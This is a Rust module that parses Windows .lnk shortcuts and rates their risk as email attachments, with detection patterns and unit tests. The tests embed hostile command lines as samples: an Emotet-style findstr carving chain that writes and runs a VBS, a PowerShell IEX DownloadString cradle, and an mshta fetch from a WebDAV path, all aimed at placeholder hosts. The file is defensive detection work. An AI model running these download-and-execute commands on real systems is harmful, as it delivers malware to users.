//! Windows shortcuts (.lnk, MS-SHLLINK) over bytes, and what they are worth as an attachment (§2.8).
//!
//! Emotet (April 2022) mailed password-protected ZIPs holding an LNK whose target was cmd.exe or
//! powershell.exe; one wave carried a VBS after the terminal ExtraData block and carved it out of
//! the shortcut itself with `findstr`. The parser is written here rather than taken from the `lnk`
//! or `lnk_parser` crates because neither reports the bytes after the terminal block, which are
//! the payload in that case.
//!
//! Hostile input: every read goes through `get`, StringData counts are u16 (so at most 65,535
//! chars) and NUL-terminated strings stop at 64 Ki chars, the IDList walk stops on a zero-size
//! item or after 1,024 items, and at most 64 ExtraData blocks are read. Only a bad
//! ShellLinkHeader is an error: damage after it becomes an anomaly and the parse keeps what it had.

use std::sync::LazyLock;

use encoding_rs::WINDOWS_1252;
use regex::Regex;

use crate::cmdline::{
    BLOB, EXEC_EXTS, Signals, basename, command_line_signals, lolbins_in, powershell_switches, re,
};

/// LinkFlags bits (MS-SHLLINK 2.1.1) that this parser reads.
pub mod flags {
    pub const HAS_ID_LIST: u32 = 0x01;
    pub const HAS_LINK_INFO: u32 = 0x02;
    pub const HAS_NAME: u32 = 0x04;
    pub const HAS_RELATIVE_PATH: u32 = 0x08;
    pub const HAS_WORKING_DIR: u32 = 0x10;
    pub const HAS_ARGUMENTS: u32 = 0x20;
    pub const HAS_ICON_LOCATION: u32 = 0x40;
    pub const IS_UNICODE: u32 = 0x80;
    pub const FORCE_NO_LINK_INFO: u32 = 0x100;
    pub const HAS_EXP_STRING: u32 = 0x200;
}

const HEADER_SIZE: usize = 0x4C;
/// {00021401-0000-0000-C000-000000000046} as stored (first three fields little-endian).
const LINK_CLSID: [u8; 16] = [1, 0x14, 2, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46];
/// StringData in order; the LinkFlags bits run from HasName (0x04) up.
const STRINGS: &str = "NAME_STRING RELATIVE_PATH WORKING_DIR COMMAND_LINE_ARGUMENTS ICON_LOCATION";
const MAX_ID_ITEMS: usize = 1024;
const MAX_EXTRA_BLOCKS: usize = 64;
const MAX_CSTR_CHARS: usize = 0x1_0000;
/// EnvironmentVariableDataBlock and IconEnvironmentDataBlock: 260 ANSI bytes, then 520 UTF-16.
const SIG_ENVIRONMENT: u32 = 0xA000_0001;
const SIG_ICON_ENVIRONMENT: u32 = 0xA000_0007;

/// The ShellLinkHeader is not one: nothing after it can be trusted.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum LnkError {
    #[error("offset {offset}: input ends before the 0x4C-byte ShellLinkHeader")]
    TooShort { offset: usize },
    #[error("offset {offset}: HeaderSize is {value:#x}, not 0x4C")]
    HeaderSize { offset: usize, value: u32 },
    #[error("offset {offset}: LinkCLSID is not {{00021401-0000-0000-C000-000000000046}}")]
    Clsid { offset: usize },
}

/// What a shortcut says it does.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Lnk {
    pub flags: u32,
    pub file_attributes: u32,
    /// FileSize of the target when the link was made (0 in Emotet's carving shortcuts).
    pub target_size: u32,
    pub icon_index: i32,
    pub show_command: u32,
    /// LinkInfo local base path (+ common path suffix) or network share, else the IDList drive and
    /// file-entry names, else RelativePath.
    pub target: Option<String>,
    pub name: Option<String>,
    pub relative_path: Option<String>,
    pub working_dir: Option<String>,
    pub arguments: Option<String>,
    /// IconLocation from StringData, else the IconEnvironmentDataBlock (0xA0000007).
    pub icon_location: Option<String>,
    /// EnvironmentVariableDataBlock (0xA0000001) target, Unicode if set, else ANSI.
    pub env_target: Option<String>,
    /// Bytes after the terminal block (u32 < 4); 0 when the block chain is broken.
    pub appended: usize,
    pub anomalies: Vec<String>,
}

#[derive(Default)]
struct Paths {
    link_info: Option<String>,
    id_list: Option<String>,
    exp_icon: Option<String>,
}

fn slice(d: &[u8], start: usize, len: usize) -> Option<&[u8]> {
    d.get(start..start.checked_add(len)?)
}

fn le16(d: &[u8], at: usize) -> Option<u16> {
    Some(u16::from_le_bytes(slice(d, at, 2)?.try_into().ok()?))
}

fn le32(d: &[u8], at: usize) -> Option<u32> {
    Some(u32::from_le_bytes(slice(d, at, 4)?.try_into().ok()?))
}

/// UTF-16LE, or code-page bytes read as Windows-1252.
fn text(b: &[u8], wide: bool) -> String {
    if !wide {
        return WINDOWS_1252.decode_without_bom_handling(b).0.into();
    }
    let units: Vec<u16> = b
        .chunks_exact(2)
        .map(|p| u16::from_le_bytes([p[0], p[1]]))
        .collect();
    String::from_utf16_lossy(&units)
}

/// A NUL-terminated string (at most 64 Ki chars).
fn cstr(b: &[u8], wide: bool) -> String {
    let end = if wide {
        2 * b
            .chunks_exact(2)
            .take(MAX_CSTR_CHARS)
            .take_while(|p| p != &[0, 0])
            .count()
    } else {
        memchr::memchr(0, b).unwrap_or(b.len()).min(MAX_CSTR_CHARS)
    };
    text(b.get(..end).unwrap_or_default(), wide)
}

fn non_empty(s: String) -> Option<String> {
    (!s.is_empty()).then_some(s)
}

/// `a` + `b` with one backslash between them.
fn join_path(a: &str, b: &str) -> String {
    let sep = !(a.is_empty() || b.is_empty() || a.ends_with('\\') || b.starts_with('\\'));
    format!("{a}{}{b}", if sep { "\\" } else { "" })
}

/// Parse a shortcut. Errors only for a bad header; later damage lands in `anomalies`.
pub fn parse(data: &[u8]) -> Result<Lnk, LnkError> {
    let header = data
        .get(..HEADER_SIZE)
        .ok_or(LnkError::TooShort { offset: data.len() })?;
    let field = |at| le32(header, at).unwrap_or(0);
    if field(0) as usize != HEADER_SIZE {
        return Err(LnkError::HeaderSize {
            offset: 0,
            value: field(0),
        });
    }
    if header.get(4..20) != Some(&LINK_CLSID[..]) {
        return Err(LnkError::Clsid { offset: 4 });
    }
    let mut lnk = Lnk {
        flags: field(0x14),
        file_attributes: field(0x18),
        target_size: field(0x34),
        icon_index: field(0x38) as i32,
        show_command: field(0x3C),
        ..Lnk::default()
    };
    if !matches!(lnk.show_command, 1 | 3 | 7) {
        let show = lnk.show_command;
        (lnk.anomalies).push(format!("offset 60: ShowCommand {show} is not 1, 3 or 7"));
    }
    let mut paths = Paths::default();
    if let Err(msg) = parse_body(data, &mut lnk, &mut paths) {
        lnk.anomalies.push(msg);
    }
    lnk.target = paths
        .link_info
        .or(paths.id_list)
        .or_else(|| lnk.relative_path.clone());
    if lnk.icon_location.is_none() {
        lnk.icon_location = paths.exp_icon;
    }
    Ok(lnk)
}

/// Everything after the header; an `Err` is the anomaly that stopped the walk.
fn parse_body(data: &[u8], lnk: &mut Lnk, paths: &mut Paths) -> Result<(), String> {
    let mut pos = HEADER_SIZE;
    let past_end = |pos: usize, what: &str| format!("offset {pos}: {what} runs past the end");
    if lnk.flags & flags::HAS_ID_LIST != 0 {
        let size = le16(data, pos).ok_or_else(|| past_end(pos, "IDListSize"))? as usize;
        let list = slice(data, pos + 2, size).ok_or_else(|| past_end(pos, "IDList"))?;
        paths.id_list = walk_id_list(list, pos + 2, &mut lnk.anomalies);
        pos += 2 + size;
    }
    if lnk.flags & flags::HAS_LINK_INFO != 0 {
        let size = le32(data, pos).ok_or_else(|| past_end(pos, "LinkInfoSize"))? as usize;
        let info = slice(data, pos, size).ok_or_else(|| past_end(pos, "LinkInfo"))?;
        if size < 0x1C {
            return Err(format!(
                "offset {pos}: LinkInfo of {size} bytes is too small"
            ));
        }
        if lnk.flags & flags::FORCE_NO_LINK_INFO == 0 {
            paths.link_info = link_info_path(info, pos, &mut lnk.anomalies);
        }
        pos += size;
    }
    let wide = lnk.flags & flags::IS_UNICODE != 0;
    let slots = [
        &mut lnk.name,
        &mut lnk.relative_path,
        &mut lnk.working_dir,
        &mut lnk.arguments,
        &mut lnk.icon_location,
    ];
    for (i, (slot, what)) in slots.into_iter().zip(STRINGS.split(' ')).enumerate() {
        if lnk.flags & (flags::HAS_NAME << i) != 0 {
            // CountCharacters is a u16: the 64 KiB-char cap holds by construction.
            let count = le16(data, pos).ok_or_else(|| past_end(pos, what))? as usize;
            let bytes = if wide { count * 2 } else { count };
            let raw = slice(data, pos + 2, bytes)
                .ok_or_else(|| past_end(pos, &format!("{what} of {count} chars")))?;
            *slot = non_empty(text(raw, wide));
            pos += 2 + bytes;
        }
    }
    for _ in 0..MAX_EXTRA_BLOCKS {
        let size = le32(data, pos).ok_or_else(|| past_end(pos, "ExtraData (no terminal block)"))?;
        let size = size as usize;
        if size < 4 {
            lnk.appended = data.len().saturating_sub(pos + 4);
            return Ok(());
        }
        let block = slice(data, pos, size)
            .filter(|_| size >= 8)
            .ok_or_else(|| format!("offset {pos}: ExtraData block of {size} bytes is malformed"))?;
        match le32(block, 4) {
            Some(SIG_ENVIRONMENT) => lnk.env_target = env_block_string(block),
            Some(SIG_ICON_ENVIRONMENT) => paths.exp_icon = env_block_string(block),
            _ => {}
        }
        pos += size;
    }
    Err(format!(
        "offset {pos}: more than {MAX_EXTRA_BLOCKS} ExtraData blocks, stopped"
    ))
}

/// TargetUnicode (520 bytes at 268) if set, else TargetAnsi (260 bytes at 8).
fn env_block_string(block: &[u8]) -> Option<String> {
    let part = |from: usize, to: usize| block.get(from.min(block.len())..to.min(block.len()));
    let unicode = part(268, 788).and_then(|b| non_empty(cstr(b, true)));
    unicode.or_else(|| part(8, 268).and_then(|b| non_empty(cstr(b, false))))
}

/// LinkInfo: the local base path (Unicode when the header has those fields) or the network
/// share name, joined with the common path suffix.
fn link_info_path(info: &[u8], base: usize, anomalies: &mut Vec<String>) -> Option<String> {
    let field = |at| le32(info, at).unwrap_or(0) as usize;
    let wide = field(4) >= 0x24;
    let mut string_at = |off: usize, wide: bool, what: &str| {
        let rest = info.get(off..).filter(|_| off != 0);
        if rest.is_none() && off != 0 {
            let len = info.len();
            let msg = format!("offset {base}: LinkInfo {what} at {off} is past its {len} bytes");
            anomalies.push(msg);
        }
        rest.and_then(|r| non_empty(cstr(r, wide)))
    };
    let suffix = match field(0x20) {
        at if wide && at != 0 => string_at(at, true, "CommonPathSuffixUnicode"),
        _ => string_at(field(0x18), false, "CommonPathSuffix"),
    };
    let root = if field(8) & 1 != 0 {
        match field(0x1C) {
            at if wide && at != 0 => string_at(at, true, "LocalBasePathUnicode"),
            _ => string_at(field(0x10), false, "LocalBasePath"),
        }
    } else if field(8) & 2 != 0 {
        // CommonNetworkRelativeLink: NetNameOffset @8, NetNameOffsetUnicode @20 if that is > 0x14.
        let net = Some(field(0x14)).filter(|&at| at != 0);
        let link = net.and_then(|at| info.get(at..)).unwrap_or_default();
        let ansi_at = le32(link, 8).unwrap_or(0) as usize;
        let (at, wide) = match le32(link, 20) {
            Some(u) if ansi_at > 0x14 && u != 0 => (u as usize, true),
            _ => (ansi_at, false),
        };
        link.get(at..)
            .filter(|_| at != 0)
            .and_then(|r| non_empty(cstr(r, wide)))
    } else {
        None
    };
    match (root, suffix) {
        (Some(r), Some(s)) => Some(join_path(&r, &s)),
        (r, s) => r.or(s),
    }
}

/// The drive (or share) and the file-entry names of the IDList, as a path.
fn walk_id_list(list: &[u8], base: usize, anomalies: &mut Vec<String>) -> Option<String> {
    let (mut off, mut root, mut names) = (0, None::<String>, Vec::<String>::new());
    for items in 0.. {
        let Some(size) = le16(list, off).map(usize::from) else {
            anomalies.push(format!("offset {}: IDList has no TerminalID", base + off));
            break;
        };
        if size == 0 {
            break;
        }
        if items == MAX_ID_ITEMS {
            let msg = format!("offset {base}: IDList has more than {MAX_ID_ITEMS} items");
            anomalies.push(msg);
            break;
        }
        let Some(item) = slice(list, off, size).filter(|_| size >= 3) else {
            let msg = format!("offset {}: IDList item of {size} bytes", base + off);
            anomalies.push(msg);
            break;
        };
        let kind = item[2];
        let found = match kind & 0x70 {
            // Volume: "C:\" at 3 when bit 0 is set; network location: "\\server\share" at 5.
            0x20 if kind & 1 != 0 => Some(cstr(item.get(3..).unwrap_or_default(), false))
                .filter(|s| matches!(s.as_bytes(), [d, b':', ..] if d.is_ascii_alphabetic())),
            0x40 => Some(cstr(item.get(5..).unwrap_or_default(), false))
                .filter(|s| s.starts_with("\\\\")),
            0x30 => {
                names.extend(file_entry_name(item));
                None
            }
            _ => None,
        };
        if found.is_some() {
            (root, names) = (found, Vec::new());
        }
        off += size;
    }
    let chain = non_empty(names.join("\\"))?;
    Some(root.map_or(chain.clone(), |r| join_path(&r, &chain)))
}

/// A file-entry item's long name (extension block 0xBEEF0004), else its primary name.
fn file_entry_name(item: &[u8]) -> Option<String> {
    let rest = item.get(14..)?;
    let primary = cstr(rest, item[2] & 0x04 != 0);
    let long = memchr::memmem::find(rest, &[0x04, 0x00, 0xEF, 0xBE])
        .and_then(|p| rest.get(p.checked_sub(4)?..))
        .and_then(|block| {
            let at = match le16(block, 2)? {
                9.. => 46,
                8 => 42,
                7 => 38,
                3..=6 => 20,
                _ => return None,
            };
            let end = usize::from(le16(block, 0)?).min(block.len());
            non_empty(cstr(block.get(at..end)?, true))
        });
    long.or_else(|| non_empty(primary))
}

// ---------------------------------------------------------------------------------------------
// Risk

/// What a shortcut's command line and looks amount to.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct LnkRisk {
    /// LOLBins named by the target, arguments, environment target or a decoded
    /// `-EncodedCommand`, in the order of the shared LOLBin list (`cmdline::LOLBINS`).
    pub lolbins: Vec<&'static str>,
    /// `id: detail`; the ids are stable (`encoded-command`, `hidden-window`, `download`, …).
    pub signals: Vec<String>,
    /// A LOLBin with download/exec arguments, or appended data (§2.8 verdict).
    pub critical: bool,
}

/// Icon locations that make a shortcut look like a document.
const DOC_ICONS: &str = "shell32.dll imageres.dll winword.exe excel.exe powerpnt.exe \
    acrord32.exe acrobat.exe msedge.exe wordpad.exe .pdf .doc .rtf .xls .ppt .odt";
const PADDING_RUN: usize = 16;
const MAX_ARGS_SHOWN: usize = 260;

static CARVE: LazyLock<Regex> =
    LazyLock::new(|| re(r"(?i)\b(?:findstr|set-content|add-content)\b|(?:^|[\s;|&(])sc\s"));

/// Rate a parsed shortcut by §2.8.
pub fn assess(lnk: &Lnk) -> LnkRisk {
    let mut sig = Signals::default();
    let target = lnk.target.as_deref().unwrap_or_default();
    let env = lnk.env_target.as_deref().unwrap_or_default();
    let args = lnk.arguments.as_deref().unwrap_or_default();
    let decoded = powershell_switches(args, &mut sig);
    // Long base64 runs are blanked so that no program name or keyword is read inside them.
    let text = [target, env, args, decoded.as_deref().unwrap_or_default()]
        .map(|s| BLOB.replace_all(s, " ").into_owned())
        .join("\n");
    let mut lolbins = lolbins_in(&text.to_lowercase());
    let cmd_target = [target, env]
        .iter()
        .any(|p| matches!(basename(p).as_str(), "cmd.exe" | "cmd"));
    let cmd_args = cmd_target.then_some(args);
    command_line_signals(&text, cmd_args, &mut lolbins, &mut sig);
    let found = |r: &Regex, s: &str| r.find(s).map(|m| m.as_str().trim().to_string());
    if lnk.target_size == 0
        && let Some(m) = found(&CARVE, &text)
    {
        sig.add("carving", &format!("{m} with target size 0"), true);
    }
    let chars = args.chars().count();
    if chars > MAX_ARGS_SHOWN {
        sig.add("long-arguments", &format!("{chars} characters"), false);
    }
    let run = args
        .split(|c: char| !c.is_whitespace())
        .map(|r| r.chars().count())
        .max();
    if run.unwrap_or(0) >= PADDING_RUN || args.contains(['\r', '\n']) {
        let detail = format!("whitespace run of {} or a line break", run.unwrap_or(0));
        sig.add("whitespace-padding", &detail, false);
    }
    if lnk.show_command == 7 {
        sig.add("minimised", "ShowCommand 7 (minimised, no focus)", false);
    }
    if let Some(icon) = lnk.icon_location.as_deref() {
        let lower_icon = icon.to_lowercase();
        let doc_icon = DOC_ICONS.split_whitespace().any(|m| lower_icon.contains(m));
        let shown = if target.is_empty() { env } else { target };
        let base = basename(shown);
        let ext = base.rsplit_once('.').map_or("", |(_, e)| e);
        let non_doc = !lolbins.is_empty()
            || EXEC_EXTS.split_whitespace().any(|e| e == ext)
            || (shown.is_empty() && !args.is_empty());
        if doc_icon && non_doc && basename(icon) != base {
            let detail = format!("{icon},{} on {shown}", lnk.icon_index);
            sig.add("document-icon", &detail, false);
        }
    }
    if lnk.appended > 0 {
        let detail = format!("{} bytes after the terminal block", lnk.appended);
        sig.add("appended-data", &detail, true);
    }
    LnkRisk {
        critical: (!lolbins.is_empty() && sig.exec) || lnk.appended > 0,
        lolbins,
        signals: sig
            .list
            .into_iter()
            .map(|(id, d)| format!("{id}: {d}"))
            .collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use base64::Engine as _;

    const PS: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    const ENC: &str =
        "VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAGsAZQBuAHMAYQAgAHQAZQBzAHQAIABmAGkAeAB0AHUAcgBlACcA";

    fn fixture(name: &str) -> Vec<u8> {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/lnk");
        std::fs::read(dir.join(name)).expect("fixture present")
    }

    fn s(v: &str) -> Option<String> {
        non_empty(v.to_string())
    }

    /// `size icon show appended | target | name | relative | workdir | args | icon | env`.
    fn summary(l: &Lnk) -> String {
        let (size, icon, show, app) = (l.target_size, l.icon_index, l.show_command, l.appended);
        let mut out = format!("{size} {icon} {show} {app}");
        let (a, b) = (
            [&l.target, &l.name, &l.relative_path],
            [&l.working_dir, &l.arguments],
        );
        for f in a.iter().chain(&b).chain(&[&l.icon_location, &l.env_target]) {
            out = format!("{out} | {}", f.as_deref().unwrap_or("-"));
        }
        out
    }

    /// `lolbins/signal ids/critical`.
    fn verdict(r: &LnkRisk) -> String {
        let ids = r.signals.iter().flat_map(|s| s.split(':').next());
        let ids = ids.collect::<Vec<_>>().join(",");
        let critical = if r.critical { "critical" } else { "-" };
        format!("{}/{ids}/{critical}", r.lolbins.join(","))
    }

    #[test]
    fn lnk_fixtures_parse_and_assess() {
        let cases = [
            // From the `lnk` 0.6.4 crate (made by Windows).
            (
                "lnk-rs-test.lnk",
                r"0 0 1 0 | C:\test\a.txt | - | .\a.txt | C:\test | - | - | -",
                "//-",
            ),
            (
                "lnk-rs-windows-powershell.lnk",
                concat!(
                    r"454656 0 1 0 | C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | ",
                    r"Performs object-based (command-line) functions | ",
                    r"..\..\..\Windows\System32\WindowsPowerShell\v1.0\powershell.exe | ",
                    r"%HOMEDRIVE%%HOMEPATH% | - | ",
                    r"%SystemRoot%\system32\WindowsPowerShell\v1.0\powershell.exe | ",
                    r"%SystemRoot%\system32\WindowsPowerShell\v1.0\powershell.exe"
                ),
                "powershell//-",
            ),
            // No LinkInfo: the IDList gives the target, long names from the 0xBEEF0004 blocks.
            (
                "lnk-rs-hearthstone.lnk",
                r"0 0 1 0 | E:\Hearthstone\Hearthstone Beta Launcher.exe | - | - | E:\Hearthstone | - | - | -",
                "//-",
            ),
            // LinkInfo has "???.exe" in ANSI and the real name in LocalBasePathUnicode.
            (
                "lnk-rs-non-latin.lnk",
                r"12418048 0 1 0 | E:\Tools\iron-heart\мяу.exe | - | - | E:\Tools\iron-heart | - | - | -",
                "//-",
            ),
            // Made with pylnk3 (testdata/lnk/README.md).
            (
                "pylnk3-powershell-enc-docicon.lnk",
                &format!(
                    r"0 1 7 0 | {PS} | - | - | - | -w hidden -enc {ENC} | C:\Windows\System32\shell32.dll | -"
                ),
                "powershell/hidden-window,encoded-command,minimised,document-icon/critical",
            ),
            (
                "pylnk3-notepad.lnk",
                r"0 0 1 0 | C:\Windows\System32\notepad.exe | Notepad | - | C:\Windows\System32 | - | - | -",
                "//-",
            ),
            (
                "pylnk3-notepad-appended.lnk",
                r"0 0 1 70 | C:\Windows\System32\notepad.exe | Notepad | - | C:\Windows\System32 | - | - | -",
                "/appended-data/critical",
            ),
        ];
        for (name, want, want_risk) in cases {
            let l = parse(&fixture(name)).expect("parses");
            assert_eq!(summary(&l), want, "{name}");
            assert_eq!(verdict(&assess(&l)), want_risk, "{name}");
            assert!(l.anomalies.is_empty(), "{name}: {:?}", l.anomalies);
        }
        let r = assess(&parse(&fixture(cases[4].0)).unwrap());
        assert!(r.signals[1].contains("decodes to \"Write-Output 'kensa test fixture'\""));
        let appended = fixture(cases[6].0).len() - fixture(cases[5].0).len();
        assert_eq!(appended, 70);

        // With ForceNoLinkInfo the IDList chain gives the same paths.
        for (name, want, _) in &cases[..4] {
            let mut d = fixture(name);
            d[0x15] |= 0x01;
            let target = parse(&d).unwrap().target.unwrap();
            assert!(want.contains(&format!("| {target} |")), "{name}: {target}");
        }
    }

    /// A header with `flags` and ShowCommand 1, then `body` (for cases no tool writes).
    fn build(flags: u32, body: &[u8]) -> Vec<u8> {
        let mut d = vec![0u8; HEADER_SIZE];
        d[0] = 0x4C;
        d[4..20].copy_from_slice(&LINK_CLSID);
        d[0x14..0x18].copy_from_slice(&flags.to_le_bytes());
        d[0x3C] = 1;
        [d, body.to_vec()].concat()
    }

    fn counted(bytes: &[u8]) -> Vec<u8> {
        [&(bytes.len() as u16).to_le_bytes()[..], bytes].concat()
    }

    #[test]
    fn lnk_errors_anomalies_and_bounds() {
        let good = fixture("pylnk3-notepad.lnk");
        let short = LnkError::TooShort { offset: 0x4B };
        assert_eq!(parse(&good[..0x4B]), Err(short));
        let size = LnkError::HeaderSize {
            offset: 0,
            value: 0x4D,
        };
        assert_eq!(parse(&[&[0x4D][..], &good[1..]].concat()), Err(size));
        let clsid = LnkError::Clsid { offset: 4 };
        assert!(clsid.to_string().starts_with("offset 4:"));
        let bad = [&good[..19], &[7], &good[20..]].concat();
        assert_eq!(parse(&bad), Err(clsid));

        // Not IsUnicode: StringData in the code page, read as Windows-1252; an ANSI env block.
        let mut env = vec![0u8; 0x314];
        env[..8].copy_from_slice(&[0x14, 3, 0, 0, 1, 0, 0, 0xA0]);
        env[8..27].copy_from_slice(br"%windir%\system32\x");
        let cmd = counted(br"C:\Windows\System32\cmd.exe");
        let body = [cmd, counted(b"/c echo \x93hi\x94"), env, vec![0; 4]].concat();
        let l = parse(&build(0x08 | 0x20 | 0x200, &body)).unwrap();
        let want = r"0 0 1 0 | C:\Windows\System32\cmd.exe | - | C:\Windows\System32\cmd.exe | - | /c echo “hi” | - | %windir%\system32\x";
        assert_eq!(summary(&l), want);
        assert!(l.anomalies.is_empty(), "{l:?}");
        assert_eq!(verdict(&assess(&l)), "cmd/cmd-c/critical");

        // 1,100 IDList items of 3 bytes; 70 ExtraData blocks; a string count past the end; …
        let list = [[3u8, 0, 0x31].repeat(1100), vec![0; 2]].concat();
        let ids = [&(list.len() as u16).to_le_bytes()[..], &list, &[0; 4]].concat();
        let block = [8u32.to_le_bytes(), 0xA000_0099u32.to_le_bytes()].concat();
        let blocks = [block.repeat(70), vec![0; 4]].concat();
        let strings = [counted(b"kept"), vec![0xFF, 0xFF, b'x']].concat();
        let (five, no_terminal_id) = (vec![5, 0, 0, 0, 0, 0, 0, 0], vec![4, 0, 3, 0, 0x31, 0]);
        let cases = [
            (0x01, ids, "IDList has more than 1024 items"),
            (0, blocks, "more than 64 ExtraData blocks"),
            (0x24, strings, "82: COMMAND_LINE_ARGUMENTS of 65535"),
            (0, five, "offset 76: ExtraData block of 5 bytes"),
            (0, vec![], "no terminal block"),
            (0x01, no_terminal_id, "offset 81: IDList has no TerminalID"),
        ];
        for (flags, body, want) in cases {
            let l = parse(&build(flags, &body)).unwrap();
            let hit = l.anomalies.iter().any(|a| a.contains(want));
            assert!(hit && l.appended == 0, "{want}: {l:?}");
            assert_eq!(l.name, if flags == 0x24 { s("kept") } else { None });
        }
    }

    fn with(target: &str, args: &str, target_size: u32) -> Lnk {
        let mut l = Lnk::default();
        (l.target, l.arguments, l.target_size) = (s(target), s(args), target_size);
        l.show_command = 1;
        l
    }

    #[test]
    fn lnk_assess_command_lines() {
        // Emotet, April 2022: cmd.exe, target size 0, a script carved out of the LNK itself.
        let args = r#"/v:on /c findstr "glKmfOKnQLYKnNs.*" "Form 04.25.2022, US.lnk" > "%tmp%\YlScZcZKeP.vbs" & "%tmp%\YlScZcZKeP.vbs""#;
        let mut l = with(r"C:\Windows\System32\cmd.exe", args, 0);
        l.icon_location = s(r"C:\Windows\System32\shell32.dll");
        let want = "cmd/cmd-c,delayed-expansion,carving,document-icon/critical";
        assert_eq!(verdict(&assess(&l)), want);
        l.target_size = 1;
        let want = "cmd/cmd-c,delayed-expansion,document-icon/critical";
        assert_eq!(verdict(&assess(&l)), want);

        let tail = "-nop -ep Bypass -c IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')";
        let r = assess(&with(PS, &format!("{}{tail}", " ".repeat(300)), 9));
        let want = "powershell/no-profile,execution-policy,invoke-expression,download,url,long-arguments,whitespace-padding/critical";
        assert_eq!(verdict(&r), want);

        // %COMSPEC% stands for cmd.exe; mshta fetching from WebDAV.
        let args = r"%COMSPEC% /c start mshta \\203.0.113.9@SSL\dav\a.hta";
        let r = assess(&with("", args, 9));
        assert_eq!(verdict(&r), "cmd,mshta/comspec,unc-path,cmd-c/critical");
        assert_eq!(r.signals[1], r"unc-path: \\203.0.113.9@SSL\dav\a.hta");

        // No program names inside base64; a decoded pwsh download is read; folders are no programs.
        let blob = format!("-e {}/cmd/{}", "A".repeat(24), "B".repeat(24));
        let r = assess(&with(r"C:\x\powershell.exe", &blob, 9));
        assert_eq!(verdict(&r), "powershell/encoded-command/critical");
        let script = "iwr https://example.invalid/x -OutFile x.exe".encode_utf16();
        let script: Vec<u8> = script.flat_map(u16::to_le_bytes).collect();
        let enc = base64::engine::general_purpose::STANDARD.encode(script);
        let args = format!("-WindowStyle Hidden -EncodedCommand {enc}");
        let r = assess(&with(r"C:\Program Files\PowerShell\7\pwsh.exe", &args, 9));
        let want = "pwsh/hidden-window,encoded-command,download,url/critical";
        assert_eq!(verdict(&r), want);
        let r = assess(&with(
            r"C:\Tools\mycmd.exe",
            "--commander --curly run.cmd",
            9,
        ));
        assert_eq!(verdict(&r), "//-");
    }

    #[test]
    fn lnk_robust_against_5000_mutated_inputs() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("testdata/lnk");
        let files = std::fs::read_dir(dir).unwrap().map(|e| e.unwrap().path());
        let lnks = files.filter(|p| p.extension().is_some_and(|e| e == "lnk"));
        let bases: Vec<Vec<u8>> = lnks.map(|p| std::fs::read(p).unwrap()).collect();
        assert_eq!(bases.len(), 7);
        let mut state = 0x4B45_4E53_414C_4E4Bu64;
        let mut rng = |n: usize| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state % n.max(1) as u64) as usize
        };
        for round in 0..5000 {
            let mut d = bases[round % bases.len()].clone();
            for _ in 0..=rng(3) {
                let len = d.len();
                // A huge count or size at a section start, the flags, or anywhere.
                let at = [0x14, 0x4C, rng(len), rng(len)][rng(4)];
                let huge = [0xFFFF, u32::MAX, 0x7FFF_FFFF, 0x8000, 3][rng(5)];
                match rng(4) {
                    0 => d.truncate(rng(len + 1)),
                    1 => (0..=rng(8)).for_each(|_| {
                        let i = rng(len);
                        if let Some(b) = d.get_mut(i) {
                            *b ^= 1 << (i % 8);
                        }
                    }),
                    2 => {
                        for (k, b) in huge.to_le_bytes().into_iter().enumerate() {
                            if let Some(x) = d.get_mut(at + k) {
                                *x = b;
                            }
                        }
                    }
                    _ => d.extend((0..rng(64)).map(|i| (i * 37) as u8)),
                }
            }
            if let Ok(l) = parse(&d) {
                assert!(l.appended <= d.len());
                let _ = assess(&l);
            }
        }
    }
}
